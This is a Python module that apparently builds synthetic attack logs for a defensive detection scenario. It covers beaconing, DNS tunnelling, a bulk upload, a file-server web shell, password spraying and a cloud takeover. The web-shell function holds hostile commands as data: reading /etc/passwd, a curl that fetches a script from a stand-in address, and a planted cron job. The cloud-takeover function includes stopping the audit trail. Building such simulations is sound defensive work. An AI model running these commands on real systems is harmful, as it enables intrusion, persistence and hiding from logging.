"""Attacks that other logs tell of: the sensor on the wire, the file server, the cloud."""

from clearhouse.defense.scenario.event import SourceKind
from clearhouse.defense.scenario.office.attack import Attack
from clearhouse.defense.scenario.office.logs import address_of

_NETWORK, _SERVER, _CLOUD = (
    (SourceKind.SURICATA,), (SourceKind.AUDITD,), (SourceKind.CLOUDTRAIL,),
)  # fmt: skip
_ALPHABET = "abcdefghijklmnopqrstuvwxyz234567"


def beacon(attack: Attack) -> None:
    """A program calls home every minute, with an agent string of its own."""
    source, target = address_of("ws-03"), "192.0.2.77"
    events = [
        attack.logs.http(attack.wait(57, 63), source, target, "cdn-sync.example",
                         f"/api/v2/status?id={place}", agent="SyncSvc/2.1", size=128)
        for place in range(45)
    ]  # fmt: skip
    attack.step("a program calls home", "T1071.001", events, source, target,
                visible_in=_NETWORK)  # fmt: skip


def tunnel(attack: Attack) -> None:
    """Records leave in names that are looked up."""
    source = address_of("ws-07")
    events = []
    for _ in range(90):
        label = "".join(attack.logs.chance.choices(_ALPHABET, k=48))
        events.append(
            attack.logs.dns(
                attack.wait(0.4, 2), source, f"{label}.t.telemetry-cache.example", "TXT"
            )
        )
    attack.step("records leave in looked-up names", "T1048.003", events, source,
                visible_in=_NETWORK)  # fmt: skip


def bulk_upload(attack: Attack) -> None:
    """One large flow to a storage service at night: allowed, and never seen before."""
    source, target = address_of("ws-07"), "203.0.113.200"
    events = [
        attack.logs.flow(attack.wait(20, 90), source, target, 443, 480_000_000 + place)
        for place in range(4)
    ]
    attack.step("an archive is uploaded", "T1567.002", events, source, target,
                visible_in=_NETWORK)  # fmt: skip


def web_shell(attack: Attack) -> None:
    """The web account of the file server starts a shell, fetches a program and plants a job."""
    logs = attack.logs
    one = [
        logs.audit(attack.wait(1, 4), "www-data", command, exe)
        for command, exe in (
            ("sh -c id", "/bin/sh"), ("sh -c uname -a", "/bin/sh"), ("cat /etc/passwd", "/bin/cat"),
        )
    ]  # fmt: skip
    attack.step("the web account starts a shell", "T1505.003", one, "fs-01", "www-data",
                visible_in=_SERVER)  # fmt: skip
    two = logs.audit(attack.wait(10, 40), "www-data",
                     "curl -s http://192.0.2.91/x.sh -o /dev/shm/x.sh", "/usr/bin/curl")  # fmt: skip
    attack.step("a script is fetched", "T1105", [two], "fs-01", "www-data", visible_in=_SERVER)
    three = logs.audit(
        attack.wait(5, 20), "www-data", "crontab /dev/shm/x.cron", "/usr/bin/crontab"
    )
    attack.step("a job is planted", "T1053.003", [three], "fs-01", "www-data", visible_in=_SERVER)


def spray(attack: Attack) -> None:
    """One password for every account, until one fits."""
    logs, source = attack.logs, "192.0.2.140"
    users = ("a.brandt", "m.okafor", "j.lindqvist", "s.ferri", "k.novak", "d.amsel", "p.haas")
    one = [
        logs.cloud(attack.wait(20, 70), user, "signin", "ConsoleLogin", source,
                   **{"responseElements.ConsoleLogin": "Failure", "errorMessage": "Failed authentication"})
        for user in users
    ]  # fmt: skip
    attack.step("passwords are tried", "T1110.003", one, source, visible_in=_CLOUD)
    two = logs.cloud(attack.wait(30, 90), "r.tanaka", "signin", "ConsoleLogin", source,
                     **{"responseElements.ConsoleLogin": "Success"})  # fmt: skip
    attack.step("one fits", "T1078.004", [two], "r.tanaka", source, visible_in=_CLOUD)


def cloud_takeover(attack: Attack) -> None:
    """The trail is stopped, a key is made, a store is opened."""
    logs, user, source = attack.logs, "r.tanaka", "192.0.2.140"
    calls = (
        ("the trail is stopped", "T1685.002", "cloudtrail", "StopLogging"),
        ("a key is made", "T1098.001", "iam", "CreateAccessKey"),
        ("a store is opened", "T1530", "s3", "PutBucketPolicy"),
    )
    for title, technique, service, name in calls:
        uid = logs.cloud(attack.wait(20, 120), user, service, name, source)
        attack.step(title, technique, [uid], user, source, visible_in=_CLOUD)


ELSEWHERE = (beacon, tunnel, bulk_upload, web_shell, spray, cloud_takeover)
